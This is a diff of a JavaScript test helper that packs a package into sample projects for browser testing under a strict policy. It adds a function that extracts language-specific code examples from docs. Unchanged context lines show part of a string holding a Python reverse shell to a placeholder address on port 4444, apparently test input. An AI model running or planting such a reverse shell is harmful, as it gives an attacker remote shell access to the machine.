@@ -1,7 +1,7 @@
 // The package as others get it, installed into a project of each kind, built there without any configuration of ours,
 // and run in a real browser under a strict policy.
 import assert from 'node:assert/strict';
-import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -21,6 +21,16 @@ s.connect(("192.0.2.7", 4444))
 os.dup2(s.fileno(), 0)
 pty.spawn("/bin/sh")
 `;
+
+/**
+ * The examples of a guide in one language.
+ * @param {string} guide
+ * @param {string} language
+ */
+export const examples = (guide, language) =>
+  [...readFileSync(join(root, 'docs', guide), 'utf8').matchAll(/^```(\w+)\n([^]*?)^```$/gm)]
+    .filter(([, its]) => its === language)
+    .map(([, , text]) => text);
 
 /** Packs the package once, and makes projects that have it. */
 export async function packed() {
